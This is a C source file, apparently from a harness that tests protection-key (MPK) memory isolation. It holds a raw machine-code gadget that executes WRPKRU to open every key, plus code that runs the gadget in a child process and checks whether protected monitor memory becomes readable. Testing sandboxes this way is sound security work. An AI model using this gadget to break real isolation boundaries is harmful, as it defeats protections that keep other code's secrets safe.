/* Code that opens every key, as bytes to be brought into executable memory by some way, and the prize for having run it. */
#include "attack.h"

static const unsigned char opens_keys[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3}; /* xor eax, ecx, edx; wrpkru; ret */
#define OPENING_AT 6 /* of the WRPKRU in it */
static struct target made_targets[64];

/* Runs it at `code`, in a child: whether the monitor's memory, or the stand-in, can be read then. */
static uintptr_t code_to_run;
UNUSED static int runs_it(void) {
    volatile int escaped = 0;
    catch_faults();
    signal(SIGILL, leave_fault);
    if (sigsetjmp(after_fault, 1)) return 0;
    ((void (*)(void))code_to_run)();
    (void)*(volatile unsigned char *)made_targets[0].from;
    escaped = 1;
    return escaped;
}
UNUSED static int opens_by(void *code) {
    if (code == NULL || code == MAP_FAILED) return 0;
    code_to_run = (uintptr_t)code;
    return in_child(runs_it);
}
UNUSED static void know_targets(void) {
    read_targets(made_targets, 64);
    close_stand_in(&made_targets[0]);
}
